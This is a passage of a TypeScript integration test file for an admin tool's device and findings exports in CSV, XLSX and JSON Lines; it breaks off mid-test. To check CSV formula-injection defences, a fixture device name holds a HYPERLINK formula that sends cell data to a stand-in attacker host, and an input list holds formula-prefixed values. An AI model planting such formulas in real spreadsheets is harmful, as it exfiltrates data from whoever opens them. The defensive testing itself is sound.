/**
 * Exports of the Devices and Findings lists over real HTTP and through `joinscope export`: each format read back
 * (CSV with csv-parse, XLSX with exceljs, JSON Lines line by line) against what the lists themselves show, on a
 * simulated tenant of 2,400 directory objects (more than two of the export's 1,000-row batches) with the agents'
 * reports, one of them named like a spreadsheet formula. Runs on SQLite and PostgreSQL.
 */
import { mkdtempSync, readFileSync } from "node:fs";
import { get as httpGet } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gunzipSync } from "node:zlib";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createAgentToken } from "@/lib/agent-tokens/create-agent-token";
import { db } from "@/lib/db/client";
import { directDb } from "@/lib/db/direct";
import { CHANGE_BOARD_COLUMNS } from "@/lib/export/change-board-export-source";
import { createDeviceExportSource, DEVICE_EXPORT_COLUMNS } from "@/lib/export/device-export-source";
import type { ExportFormat } from "@/lib/export/export-format";
import type { ExportRow, ExportSource } from "@/lib/export/export-source";
import { sheetRowsFromCopy } from "@/lib/export/sheet-rows-from-copy";
import { exportChunks } from "@/lib/export/stream-export";
import { cellOpens, rowsXml } from "@/lib/export/write-xlsx";
import { createFindingExportSource, FINDING_EXPORT_COLUMNS, findingsFilterSql } from "@/lib/export/finding-export-source";
import { flushFindingsQueue } from "@/lib/findings/findings-scheduler";
import { ingestReport } from "@/lib/ingest/ingest-report";
import { findDevices } from "@/lib/queries/find-devices";
import { buildFindingsWhere, findFindings, findingsWhere } from "@/lib/queries/find-findings";
import { causeWords } from "@/lib/rules/cause-words";
import { compareSeverity, SEVERITIES, type Severity } from "@/lib/rules/severity";
import { runSync } from "@/lib/sync/run-sync";
import { createTenant } from "@/lib/tenants/create-tenant";
import { setTenantApp } from "@/lib/tenants/set-tenant-app";
import { DEFAULT_DEVICE_LIST_PARAMS, DEVICE_SORTS, type DeviceListParams } from "@/lib/url-params/device-list-params";
import { DEFAULT_FINDING_LIST_PARAMS, type FindingListParams } from "@/lib/url-params/finding-list-params";
import { createSimTenant } from "@/simulator/create-sim-tenant";
import { startSimulator, type SimulatorHandle } from "@/simulator/server";
import { signedInCookie, startAdminApiServer, type AdminApiServer } from "../setup/admin-api-server";
import { runJoinscope } from "../setup/run-joinscope";

/** A display name an attacker could give a device they registered: a spreadsheet would run it as a formula. */
const FORMULA_NAME = '=HYPERLINK("http://attacker.example/?x="&A1,"Open")';
const DEVICES = 2_400;

let sim: SimulatorHandle | undefined;
let server: AdminApiServer;
let cookie: string;
let tenantRef: string;
let entraTenantId: string;
let formulaObjectId: string;

beforeAll(async () => {
  const now = new Date();
  const created = createSimTenant({ seed: 4242, deviceCount: DEVICES, now, includeReports: true });
  const store = created.tenant;
  const target = store.devices.find((d) => d.trustType === "ServerAd")!;
  target.displayName = FORMULA_NAME;
  formulaObjectId = target.id;
  sim = await startSimulator({ tenants: [store] });
  const t = await createTenant(db, { tenantId: store.tenantId, name: "Contoso Export", actor: "test" });
  if (!t.ok) throw new Error(t.error.message);
  tenantRef = t.id;
  entraTenantId = store.tenantId;
  const app = await setTenantApp(db, {
    tenantRef,
    cloud: "custom",
    authorityHost: sim.authorityHost,
    graphBaseUrl: sim.graphBaseUrl,
    clientId: store.clientId,
    credential: { kind: "secret", clientSecret: store.clientSecret! },
    actor: "test",
  });
  if (!app.ok) throw new Error(app.error.message);
  const sync = await runSync(db, { tenantRef, mode: "full", trigger: "test", resilience: { sleep: async () => undefined, baseDelayMs: 1 } });
  if (!sync.ok) throw new Error(sync.error.message);
  const token = await createAgentToken(db, { tenantRef, name: "agents", actor: "test" });
  if (!token.ok) throw new Error("token");
  const agent = { tokenId: token.id, tenantRef, tenantId: store.tenantId };
  for (const r of created.generated!.reports.slice(0, 300)) {
    const body = {
      hostname: r.hostname,
      capturedAt: r.capturedAt,
      agentVersion: r.agentVersion,
      dsregcmd: r.dsregcmd,
      events: r.events,
      ...(r.computerDn ? { computerDn: r.computerDn } : {}),
    };
    const res = await ingestReport(db, { agent, body });
    if (!res.ok) throw new Error(`${r.hostname}: ${res.error.message}`);
  }
  await flushFindingsQueue();
  server = await startAdminApiServer();
  cookie = await signedInCookie(db);
}, 240_000);

afterAll(async () => {
  await flushFindingsQueue();
  await server?.close();
  await sim?.close();
});

async function download(path: string): Promise<{ res: Response; body: Buffer }> {
  const res = await fetch(`${server.url}${path}${path.includes("?") ? "&" : "?"}tenant=${tenantRef}`, { headers: { cookie } });
  expect(res.status, path).toBe(200);
  return { res, body: Buffer.from(await res.arrayBuffer()) };
}

/** A GET as sent, its body as received: no client decoding (fetch would gunzip it), so the encoding can be checked. */
function rawGet(
  path: string,
  acceptEncoding: string | null,
): Promise<{ status: number; headers: Record<string, string | string[] | undefined>; body: Buffer }> {
  const url = `${server.url}${path}${path.includes("?") ? "&" : "?"}tenant=${tenantRef}`;
  return new Promise((resolve, reject) => {
    httpGet(url, { headers: { cookie, ...(acceptEncoding === null ? {} : { "accept-encoding": acceptEncoding }) } }, (res) => {
      const chunks: Buffer[] = [];
      res.on("data", (c: Buffer) => chunks.push(c));
      res.on("end", () => resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(chunks) }));
      res.on("error", reject);
    }).on("error", reject);
  });
}

function readCsv(body: Buffer): { header: string[]; rows: Record<string, string>[] } {
  const text = body.toString("utf8");
  expect(text.startsWith("\uFEFF"), "UTF-8 BOM").toBe(true);
  const [header, ...cells] = parse(text.slice(1), { relax_column_count: false }) as string[][];
  return { header: header!, rows: cells.map((c) => Object.fromEntries(header!.map((h, i) => [h, c[i]!]))) };
}

async function readXlsx(body: Buffer): Promise<{ header: string[]; rows: ExcelJS.CellValue[][]; sheet: ExcelJS.Worksheet }> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0]!;
  const all: ExcelJS.CellValue[][] = [];
  sheet.eachRow({ includeEmpty: false }, (row) => all.push((row.values as ExcelJS.CellValue[]).slice(1)));
  const [header, ...rows] = all;
  return { header: header as string[], rows, sheet };
}

function readJsonl(body: Buffer): Record<string, unknown>[] {
  const text = body.toString("utf8");
  expect(text.endsWith("\n")).toBe(true);
  return text
    .slice(0, -1)
    .split("\n")
    .map((line) => JSON.parse(line) as Record<string, unknown>);
}

const deviceParams = (p: Partial<DeviceListParams>) => ({ ...DEFAULT_DEVICE_LIST_PARAMS, ...p });
const deviceKeys = DEVICE_EXPORT_COLUMNS.map((c) => c.key);

describe("GET /api/v1/devices/export", () => {
  it("CSV: every device of the tenant in the list's order, with a BOM, the formula-looking name neutralised", async () => {
    const { res, body } = await download("/api/v1/devices/export?format=csv");
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="joinscope-devices-contoso-export-\d{4}-\d{2}-\d{2}\.csv"$/);
    const { header, rows } = readCsv(body);
    expect(header).toEqual(deviceKeys);
    const page = await findDevices(directDb(), { tenantRef, params: DEFAULT_DEVICE_LIST_PARAMS });
    expect(page.total).toBeGreaterThan(2_000);
    expect(rows.length).toBe(page.total);
    expect(new Set(rows.map((r) => `${r.subjectKey}|${r.objectId}`)).size).toBe(rows.length);
    expect(rows.slice(0, page.rows.length).map((r) => r.name)).toEqual(page.rows.map((r) => r.name));
    const formula = rows.find((r) => r.objectId === formulaObjectId)!;
    expect(formula.name).toBe(`'${FORMULA_NAME}`);
    expect(rows.filter((r) => /^[=+\-@\t\r]/.test(r.name!))).toEqual([]);
  });

  it("a filter and a sort of the list are the export's: name order across batches, trust type, search", async () => {
    const byName = readCsv((await download("/api/v1/devices/export?sort=name&dir=desc&trust=ServerAd")).body).rows;
    const page = await findDevices(directDb(), { tenantRef, params: deviceParams({ sort: "name", dir: "desc", trust: "ServerAd" }) });
    expect(byName.length).toBe(page.total);
    expect(byName.every((r) => r.trustType === "ServerAd")).toBe(true);
    const keys = byName.map((r) => r.name!.replace(/^'/, "").toLowerCase());
    expect(keys).toEqual([...keys].sort().reverse());
    expect(byName.slice(0, 50).map((r) => r.subjectKey)).toEqual(page.rows.map((r) => r.subjectKey));

    const q = page.rows[3]!.name.slice(0, 6);
    const searched = readCsv((await download(`/api/v1/devices/export?q=${encodeURIComponent(q)}`)).body).rows;
    const found = await findDevices(directDb(), { tenantRef, params: deviceParams({ q }) });
    expect(searched.length).toBe(found.total);
    expect(searched.length).toBeGreaterThan(0);
  });

  it("every sort, both directions: batches of 3 rows give the same rows in the same order as one batch of all", async () => {
    // The cursor after each batch must hold every column the sort compares: sorted by cause, a cursor without it
    // jumped to the devices without a cause after the first batch and left the rest of the causes out.
    const rowsOf = async (params: DeviceListParams, batchRows: number) => {
      const out: ExportRow[] = [];
      for await (const batch of createDeviceExportSource(directDb(), { tenantRef, params, batchRows }).batches()) out.push(...batch);
      return out;
    };
    const wrong: string[] = [];
    for (const sort of DEVICE_SORTS) {
      for (const dir of ["asc", "desc"] as const) {
        const params = deviceParams({ sort, dir });
        const whole = await rowsOf(params, 100_000);
        const inThrees = await rowsOf(params, 3);
        if (JSON.stringify(inThrees) !== JSON.stringify(whole)) wrong.push(`${sort} ${dir}: ${inThrees.length} rows in threes, ${whole.length} in one batch`);
      }
    }
    expect(wrong).toEqual([]);
    const [withCause] = await directDb().query(`SELECT COUNT(*) AS "n" FROM "DeviceSummary" WHERE "tenantRef" = ? AND "cause" IS NOT NULL`, [tenantRef]);
    expect(Number(withCause!.n), "devices with a cause: more than one batch of 3").toBeGreaterThan(3);
  });

  it("subject= exports the selected rows only, by row key or subject key", async () => {
    const page = await findDevices(directDb(), { tenantRef, params: DEFAULT_DEVICE_LIST_PARAMS });
    const picked = [page.rows[0]!, page.rows[7]!, page.rows[20]!];
    const query = picked.map((r) => `subject=${encodeURIComponent(r.rowKey)}`).join("&");
    const rows = readJsonl((await download(`/api/v1/devices/export?format=jsonl&${query}`)).body);
    expect(rows.map((r) => r.name)).toEqual(picked.map((r) => r.name));
  });

  it("XLSX: a worksheet with the same rows, values typed, the formula-looking name a text cell (never a formula)", async () => {
    const { res, body } = await download("/api/v1/devices/export?format=xlsx");
    expect(res.headers.get("content-type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    const csv = readCsv((await download("/api/v1/devices/export")).body).rows;
    const { header, rows, sheet } = await readXlsx(body);
    expect(header).toEqual(deviceKeys);
    expect(rows.length).toBe(csv.length);
    const nameCol = deviceKeys.indexOf("name");
    const openCol = deviceKeys.indexOf("openFindings");
    expect(rows.map((r) => String(r[nameCol]))).toEqual(csv.map((r) => r.name!.replace(/^'(?=[=+\-@\t\r])/, "")));
    expect(rows.every((r) => typeof r[openCol] === "number")).toBe(true);
    const formulaRow = rows.findIndex((r) => r[nameCol] === FORMULA_NAME);
    expect(formulaRow).toBeGreaterThanOrEqual(0);
    const cell = sheet.getRow(formulaRow + 2).getCell(nameCol + 1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
  });

  it("JSON Lines: one object per device, typed, keys in column order", async () => {
    const rows = readJsonl((await download("/api/v1/devices/export?format=jsonl&state=live")).body);
    const page = await findDevices(directDb(), { tenantRef, params: deviceParams({ state: "live" }) });
    expect(rows.length).toBe(page.total);
    expect(Object.keys(rows[0]!)).toEqual(deviceKeys);
    expect(rows.every((r) => r.state === "live" && typeof r.openFindings === "number" && Array.isArray(r.openRules))).toBe(true);
    expect(rows.find((r) => r.objectId === formulaObjectId)?.name).toBe(FORMULA_NAME);
  });
});

describe("GET /api/v1/findings/export", () => {
  it("without a format: CSV of the open findings, as the Findings page's link always downloaded", async () => {
    const { res, body } = await download("/api/v1/findings/export");
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const { header, rows } = readCsv(body);
    expect(header).toEqual(FINDING_EXPORT_COLUMNS.map((c) => c.key));
    const total = await db.finding.count({ where: { tenantRef, status: "open" } });
    expect(total).toBeGreaterThan(1_000);
    expect(rows.length).toBe(total);
    expect(new Set(rows.map((r) => `${r.deviceId}|${r.objectId}|${r.hostname}|${r.rule}`)).size).toBe(rows.length);
    // Most severe first (by rank), as the Findings page lists them: the first row of each is of the worst rank. Rows of
    // one rank may come in another order (the page sorts ties otherwise), so the rank is compared, not the row.
    const page = await findFindings(db, { tenantRef, params: DEFAULT_FINDING_LIST_PARAMS });
    const rankOf = async (r: { rule: string; deviceId?: string | null; objectId?: string | null; hostname?: string | null }) =>
      (
        await db.finding.findFirstOrThrow({
          where: { tenantRef, status: "open", rule: r.rule, deviceId: r.deviceId || null, objectId: r.objectId || null, hostname: r.hostname || null },
          select: { rankSeverity: true },
        })
      ).rankSeverity;
    const worst = await db.finding.findMany({ where: { tenantRef, status: "open" }, select: { rankSeverity: true }, distinct: ["rankSeverity"] });
    const worstRank = worst.map((w) => w.rankSeverity as Severity).sort(compareSeverity)[0];
    expect(await rankOf({ ...rows[0]!, rule: rows[0]!.rule! })).toBe(worstRank);
    expect(await rankOf(page.rows[0]!)).toBe(worstRank);
  });

  it("filters, formats and selection: severity in XLSX, a rule in JSON Lines with structured evidence, subject= for selected devices", async () => {
    const high = await db.finding.count({ where: { tenantRef, status: "open", severity: "high" } });
    const xlsx = await readXlsx((await download("/api/v1/findings/export?format=xlsx&severity=high")).body);
    expect(xlsx.rows.length).toBe(high);
    expect(xlsx.rows.every((r) => r[0] === "high")).toBe(true);

    const rule = (await db.finding.findFirstOrThrow({ where: { tenantRef, status: "open" }, select: { rule: true } })).rule;
    const lines = readJsonl((await download(`/api/v1/findings/export?format=jsonl&rule=${rule}`)).body);
    expect(lines.length).toBe(await db.finding.count({ where: { tenantRef, status: "open", rule } }));
    expect(lines.every((l) => l.rule === rule && Array.isArray(l.evidence) && Array.isArray(l.remediation) && typeof l.primary === "boolean")).toBe(true);

    const subjects = (await db.finding.findMany({ where: { tenantRef, status: "open" }, distinct: ["subjectKey"], select: { subjectKey: true }, take: 2 })).map(
      (f) => f.subjectKey,
    );
    const selected = readCsv(
      (await download(`/api/v1/findings/export?status=all&${subjects.map((s) => `subject=${encodeURIComponent(s)}`).join("&")}`)).body,
    ).rows;
    expect(selected.length).toBe(await db.finding.count({ where: { tenantRef, subjectKey: { in: subjects } } }));
  });
});

describe("the exports' content encoding (decision 036)", () => {
  const EXPORTS = ["/api/v1/devices/export", "/api/v1/findings/export?status=all", "/api/v1/devices/change-board", "/api/v1/audit/export?what=settings"];

  it.each(EXPORTS.flatMap((path) => (["csv", "jsonl"] as const).map((format) => [path, format] as const)))(
    "%s as %s: gzipped for a client that accepts gzip, the same bytes once gunzipped; as they are for identity or no header",
    async (path, format) => {
      const url = `${path}${path.includes("?") ? "&" : "?"}format=${format}`;
      const plain = await rawGet(url, "identity");
      expect(plain.status).toBe(200);
      expect(plain.headers["content-encoding"]).toBeUndefined();
      expect(plain.headers.vary).toBe("accept-encoding");
      expect(plain.body.toString("utf8").trim().length).toBeGreaterThan(0);
      const zipped = await rawGet(url, "gzip, deflate, br, zstd");
      expect(zipped.status).toBe(200);
      expect(zipped.headers["content-encoding"]).toBe("gzip");
      expect(zipped.headers.vary).toBe("accept-encoding");
      expect(zipped.headers["content-type"]).toBe(plain.headers["content-type"]);
      expect(zipped.headers["content-disposition"]).toBe(plain.headers["content-disposition"]);
      expect(zipped.body.subarray(0, 2)).toEqual(Buffer.from([0x1f, 0x8b]));
      // (The audit export is of the tenant's settings entries, which these downloads do not add to.)
      expect(gunzipSync(zipped.body).equals(plain.body)).toBe(true);
      const none = await rawGet(url, null);
      expect(none.headers["content-encoding"]).toBeUndefined();
      expect(none.body.equals(plain.body)).toBe(true);
      const refused = await rawGet(url, "gzip;q=0, identity");
      expect(refused.headers["content-encoding"]).toBeUndefined();
    },
  );

  it("XLSX is never gzipped (a ZIP already), whatever the client accepts", async () => {
    const res = await rawGet("/api/v1/devices/export?format=xlsx", "gzip");
    expect(res.status).toBe(200);
    expect(res.headers["content-encoding"]).toBeUndefined();
    expect(res.headers.vary).toBeUndefined();
    expect(res.body.subarray(0, 2).toString("latin1")).toBe("PK");
  });

  it("an error is answered as before: JSON, never gzipped", async () => {
    const res = await rawGet("/api/v1/devices/export?format=pdf", "gzip");
    expect(res.status).toBe(400);
    expect(res.headers["content-encoding"]).toBeUndefined();
    expect(JSON.parse(res.body.toString("utf8"))).toMatchObject({ error: { code: "invalid-query" } });
  });
});

describe("the Findings export's direct SQL source", () => {
  /** The export's rows (keys: subject and rule), read through the source as the API does. */
  async function exported(params: Partial<FindingListParams>, subjects?: string[]): Promise<string[]> {
    const source = createFindingExportSource(directDb(), { tenantRef, params: { ...DEFAULT_FINDING_LIST_PARAMS, ...params }, subjects });
    const keys: string[] = [];
    const subject = FINDING_EXPORT_COLUMNS.findIndex((c) => c.key === "rule");
    const device = (r: ExportRow) => [r[3], r[4], r[5]].join("|");
    for await (const batch of source.batches()) for (const r of batch) keys.push(`${device(r)}|${r[subject]}`);
    return keys;
  }

  /** The same filter through Prisma (the Findings page's buildFindingsWhere), in the export's order: by rank, then device, primary first, rule. */
  async function throughPrisma(params: Partial<FindingListParams>, subjects?: string[]): Promise<string[]> {
    const where = buildFindingsWhere(tenantRef, { ...DEFAULT_FINDING_LIST_PARAMS, ...params });
    const keys: string[] = [];
    for (const rankSeverity of SEVERITIES) {
      const rows = await db.finding.findMany({
        where: { AND: [where, { rankSeverity }, ...(subjects ? [{ subjectKey: { in: subjects } }] : [])] },
        orderBy: [{ subjectKey: "asc" }, { isPrimary: "desc" }, { rule: "asc" }],
        select: { deviceId: true, objectId: true, hostname: true, rule: true },
      });
      for (const r of rows) keys.push(`${[r.deviceId, r.objectId, r.hostname].map((v) => v ?? "").join("|")}|${r.rule}`);
    }
    return keys;
  }

  it("selects and orders the same findings as the page's Prisma filter, for every filter (wildcards and case in a search included)", async () => {
    const some = await db.finding.findFirstOrThrow({ where: { tenantRef, hostname: { not: null } }, select: { hostname: true, rule: true, subjectKey: true } });
    const host = some.hostname!;
    const cases: Partial<FindingListParams>[] = [
      { status: "all" },
      {},
      { status: "resolved" },
      { severity: "high" },
      { rule: some.rule, status: "all" },
      { ack: "no", primary: "only" },
      { ack: "yes", status: "all" },
      { q: host.slice(1, 5).toLowerCase(), status: "all" },
      { q: host.slice(0, 3).toUpperCase() },
      // A LIKE wildcard typed in the search is one in both (Prisma's contains does not escape it).
      { q: `${host.slice(0, 2)}_${host.slice(3, 5)}`, status: "all" },
      { q: "%", status: "all" },
      { q: "no-such-host-xyz" },
    ];
    for (const params of cases) {
      const expected = await throughPrisma(params);
      expect(await exported(params), JSON.stringify(params)).toEqual(expected);
    }
    expect((await throughPrisma({ status: "all" })).length).toBeGreaterThan(2_000);
    expect(await exported({ status: "all" }, [some.subjectKey])).toEqual(await throughPrisma({ status: "all" }, [some.subjectKey]));
  });

  it("the broken-device filter (outlook, cause) selects each broken device's cause finding, as the page's findingsWhere", async () => {
    for (const params of [{ outlook: "broken" }, { outlook: "now" }, { cause: "object-disabled" }] as Partial<FindingListParams>[]) {
      const where = await findingsWhere(db, tenantRef, { ...DEFAULT_FINDING_LIST_PARAMS, ...params });
      const expected: string[] = [];
      for (const rankSeverity of SEVERITIES) {
        const rows = await db.finding.findMany({
          where: { AND: [where, { rankSeverity }] },
          orderBy: [{ subjectKey: "asc" }, { isPrimary: "desc" }, { rule: "asc" }],
          select: { deviceId: true, objectId: true, hostname: true, rule: true },
        });
        for (const r of rows) expected.push(`${[r.deviceId, r.objectId, r.hostname].map((v) => v ?? "").join("|")}|${r.rule}`);
      }
      expect(await exported(params), JSON.stringify(params)).toEqual(expected);
    }
  });

  it("the broken-device filter reads the broken devices once, not once per finding (SQLite's plan)", async () => {
    // As a correlated EXISTS, SQLite probed DeviceSummary's outlook index for every finding it walked, reading every
    // broken device of that cause each time: 142 s for the 100,000-device bench tenant's open findings, 0.3 s now.
    if (directDb().dialect !== "sqlite") return;
    const filter = findingsFilterSql(tenantRef, { ...DEFAULT_FINDING_LIST_PARAMS, outlook: "broken", cause: "object-disabled" });
    const plan = (await directDb().query<{ detail: string }>(`EXPLAIN QUERY PLAN SELECT COUNT(*) FROM "Finding" WHERE ${filter.sql}`, filter.params))
      .map((r) => r.detail)
      .join("\n");
    expect(plan).not.toMatch(/CORRELATED/);
    expect(plan).toMatch(/LIST SUBQUERY/);
  });
});

describe("GET /api/v1/devices/change-board", () => {
  const headers = CHANGE_BOARD_COLUMNS.map((c) => c.label);

  it("CSV: one row per broken device under human column names, the same devices the Devices list's outlook filter lists", async () => {
    const { res, body } = await download("/api/v1/devices/change-board?format=csv");
    expect(res.headers.get("content-disposition")).toMatch(/filename="joinscope-change-board-contoso-export-\d{4}-\d{2}-\d{2}\.csv"/);
    const { header, rows } = readCsv(body);
    expect(header).toEqual(["Device", "User", "Conditional Access", "Cause", "Action", "Risk of the action", "Since", "DeviceId"]);
    const broken = await findDevices(directDb(), { tenantRef, params: deviceParams({ outlook: "broken" }) });
    expect(broken.total).toBeGreaterThan(0);
    expect(rows.length).toBe(broken.total);
    // In the list's order (severity first, as on the page).
    expect(rows.slice(0, broken.rows.length).map((r) => r.Device)).toEqual(broken.rows.map((d) => d.name));
    const summaries = await db.deviceSummary.findMany({ where: { tenantRef, outlook: { not: null } }, select: { deviceId: true, outlook: true, cause: true } });
    for (const r of rows) {
      // Short cells, and every one a device's own: its status and cause words from its summary.
      for (const h of headers) expect((r[h!] ?? "").length, h).toBeLessThanOrEqual(120);
      const s = summaries.find((x) => x.deviceId === (r.DeviceId || null));
      expect(s, r.Device).toBeDefined();
      expect(r["Conditional Access"]).toBe(s!.outlook === "now" ? "Unregistered now" : "At the next Connect sync");
      expect(r.Cause).toBe(causeWords(s!.cause!).cause);
      expect(r.Action).toBe(causeWords(s!.cause!).action);
      expect(r.Since).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    }
    // The user is the account the device's latest report was captured under (the simulated reports carry one).
    expect(rows.some((r) => /@/.test(r.User!))).toBe(true);
  });

  it("XLSX: the same rows with the header row and column widths set; a filter of the Devices list narrows it", async () => {
    const csv = readCsv((await download("/api/v1/devices/change-board?format=csv&outlook=now")).body).rows;
    const { header, rows, sheet } = await readXlsx((await download("/api/v1/devices/change-board?format=xlsx&outlook=now")).body);
    expect(header).toEqual(headers);
    expect(rows.length).toBe(csv.length);
    expect(rows.length).toBe((await findDevices(directDb(), { tenantRef, params: deviceParams({ outlook: "now" }) })).total);
    expect(sheet.getColumn(4).width).toBe(40);
    const disabled = await download("/api/v1/devices/change-board?format=csv&cause=object-disabled");
    const only = readCsv(disabled.body).rows;
    expect(only.every((r) => r.Cause === causeWords("object-disabled").cause)).toBe(true);
  });
});

describe("joinscope export", () => {
  it("writes each format to a file, with the list's filters, and no progress bar when stderr is not a terminal", async () => {
    const dir = mkdtempSync(join(tmpdir(), "joinscope-export-"));
    const csvFile = join(dir, "devices.csv");
    const r = await runJoinscope(["export", "--what", "devices", "--format", "csv", "--tenant", entraTenantId, "--trust", "ServerAd", "--output", csvFile]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    const rows = readCsv(readFileSync(csvFile)).rows;
    const page = await findDevices(directDb(), { tenantRef, params: deviceParams({ trust: "ServerAd" }) });
    expect(rows.length).toBe(page.total);
    expect(rows.find((row) => row.objectId === formulaObjectId)?.name).toBe(`'${FORMULA_NAME}`);

    const jsonl = await runJoinscope(["export", "--what", "findings", "--format", "jsonl", "--tenant", "Contoso Export", "--filter", "severity=high"]);
    expect(jsonl.code).toBe(0);
    const lines = readJsonl(Buffer.from(jsonl.stdout));
    expect(lines.length).toBe(await db.finding.count({ where: { tenantRef, status: "open", severity: "high" } }));

    const xlsxFile = join(dir, "findings.xlsx");
    const x = await runJoinscope(["export", "--what", "findings", "--format", "xlsx", "--filter", "status=all", "--output", xlsxFile]);
    expect(x.code).toBe(0);
    expect((await readXlsx(readFileSync(xlsxFile))).rows.length).toBe(await db.finding.count({ where: { tenantRef } }));

    const boardFile = join(dir, "change-board.xlsx");
    const b = await runJoinscope(["export", "--what", "change-board", "--format", "xlsx", "--outlook", "now", "--output", boardFile]);
    expect(b.code).toBe(0);
    const board = await readXlsx(readFileSync(boardFile));
    expect(board.header[0]).toBe("Device");
    expect(board.rows.length).toBe((await findDevices(directDb(), { tenantRef, params: deviceParams({ outlook: "now" }) })).total);
  }, 240_000); // four CLI processes, each loading the app through tsx

  it("answers --help with exit 0 and a usage error with exit 2", async () => {
    const help = await runJoinscope(["export", "--help"]);
    expect(help.code).toBe(0);
    expect(help.stdout).toContain("joinscope export --what devices|findings|change-board");
    for (const args of [
      ["export", "--what", "reports"],
      ["export", "--what", "devices", "--format", "pdf"],
      ["export", "--what", "devices", "--filter", "colour=red"],
      ["export", "--bogus"],
    ]) {
      const r = await runJoinscope(args);
      expect(r.code, args.join(" ")).toBe(2);
      expect(r.stderr).toContain("usage: joinscope export");
    }
  }, 180_000); // five CLI processes: 60 s was not enough on a loaded machine
});

describe("the Devices export's rows written by PostgreSQL's COPY (decision 049)", () => {
  /** Values a directory or an agent can send that CSV and JSON treat specially, each in several columns. */
  const AWKWARD = [
    "=1+1",
    "+cmd",
    "-2",
    "@SUM(A1)",
    "\tTabbed",
    "\rReturned",
    "comma, inside",
    'say "hi"',
    "line\nbreak",
    "lone\rreturn",
    "Zürich — 東京 😀",
    "control\u0001\u001fchars",
    "back\\slash/slash",
    "'already quoted",
    "trailing ",
    "=",
    "<tag> & _x0041_ \ufffe",
    " leading",
  ];

  it.runIf(process.env.JOINSCOPE_TEST_DATABASE === "postgresql")(
    "CSV, JSON Lines and the XLSX sheet's rows: COPY's bytes are byte for byte the writers', for every sort in both directions",
    async () => {
      const rows = await db.deviceSummary.findMany({ where: { tenantRef }, orderBy: { rowKey: "asc" }, take: AWKWARD.length * 2 });
      for (const [i, row] of rows.entries()) {
        const text = AWKWARD[i % AWKWARD.length]!;
        const blank = i === 3 || i === 4;
        await db.deviceSummary.update({
          where: { tenantRef_rowKey: { tenantRef, rowKey: row.rowKey } },
          data: {
            // An empty name falls back to the deviceId, and an empty deviceId to the subject key's text.
            name: blank ? "" : text,
            ...(i === 4 ? { deviceId: "" } : {}),
            lastReportHostname: text,
            primaryRule: i % 2 ? text : null,
            openRules: i % 3 === 0 ? "" : i % 3 === 1 ? "prt-missing,object-deleted,,x" : text.replaceAll(",", ""),
            operatingSystemVersion: i % 2 ? null : text,
            onPremisesSyncEnabled: i % 3 === 0 ? null : i % 3 === 1,
            azureAdPrt: i % 2 === 0,
            worstRank: i % 7 === 6 ? 9 : i % 5,
            pendingSince: i % 2 ? new Date(Date.UTC(2026, 0, 2, 3, 4, 5, i)) : null,
          },
        });
      }
      const sorts = DEVICE_SORTS.flatMap((sort) => (["asc", "desc"] as const).map((dir) => deviceParams({ sort, dir })));
      for (const params of [...sorts, deviceParams({ q: "=" }), deviceParams({ problems: true })]) {
        const source = createDeviceExportSource(directDb(), { tenantRef, params, batchRows: 97 });
        for (const format of ["csv", "jsonl"] as const) {
          expect(source.textRows?.(format), "PostgreSQL writes the rows' text").toBeTruthy();
          const byDatabase = await bytesOf(source, format);
          const byWriter = await bytesOf({ ...source, textRows: undefined }, format);
          expect(byDatabase.length, `${params.sort} ${params.dir} ${format}`).toBeGreaterThan(100);
          expect(byDatabase.equals(byWriter), `${params.sort} ${params.dir} ${params.q} ${format}`).toBe(true);
        }
        // XLSX (decision 053): the sheet's rows made from COPY's bytes are the writer's rows, byte for byte.
        const cells = source.sheetCells?.();
        expect(cells, "PostgreSQL writes the sheet's cells").toBeTruthy();
        const fromCopy = await concatenated(sheetRowsFromCopy(cells!.kinds, cellOpens(source.columns), cells!.chunks, 997));
        const fromWriter = await concatenated(rowsXml(source.columns, source.batches()));
        expect(fromCopy.length, `${params.sort} ${params.dir} xlsx`).toBeGreaterThan(100);
        expect(fromCopy.toString("utf8"), `${params.sort} ${params.dir} ${params.q} xlsx`).toBe(fromWriter.toString("utf8"));
      }
    },
    240_000, // 17 orders, three formats each: ~100 s on a loaded machine
  );
});

describe("the Findings export's rows read through PostgreSQL's COPY (decision 054)", () => {
  it.runIf(process.env.JOINSCOPE_TEST_DATABASE === "postgresql")(
    "CSV, JSON Lines and XLSX are byte for byte the keyset read's, awkward text, statuses and every severity included",
    async () => {
      const AWKWARD = ["=1+1", "comma, inside", 'say "hi"', "line\nbreak", "lone\rreturn", "control\u0001\u0002chars", "Zürich — 東京 😀", "back\\slash"];
      const findings = await db.finding.findMany({ where: { tenantRef }, orderBy: { id: "asc" }, take: AWKWARD.length * 3 });
      expect(findings.length).toBeGreaterThanOrEqual(AWKWARD.length);
      for (const [i, f] of findings.entries()) {
        const text = AWKWARD[i % AWKWARD.length]!;
        await db.finding.update({
          where: { id: f.id },
          data: {
            title: text,
            hostname: i % 4 === 0 ? null : text,
            ackComment: i % 2 ? text : null,
            acknowledgedBy: i % 2 ? "admin@contoso.example" : null,
            acknowledgedAt: i % 2 ? new Date(Date.UTC(2026, 0, 2, 3, 4, 5, i)) : null,
            status: i % 5 === 0 ? "resolved" : "open",
            resolvedAt: i % 5 === 0 ? new Date(Date.UTC(2026, 1, 3, 4, 5, 6, 7 * i)) : null,
            rankSeverity: SEVERITIES[i % SEVERITIES.length],
            isPrimary: i % 3 === 0,
            explainedBy: i % 3 === 1 ? text : null,
            evidence: [
              { source: text, field: "f", value: i % 2 ? null : text, ...(i % 3 ? { expected: text } : {}) },
              { source: "s", field: text, value: "", expected: null },
            ],
            remediation: i % 4 === 1 ? [] : [text, `Then ${text}`],
          },
        });
      }
      const direct = directDb();
      for (const params of [{ status: "all" as const }, {}, { q: "comma" }, { primary: "only" as const }, { severity: "high" as const }]) {
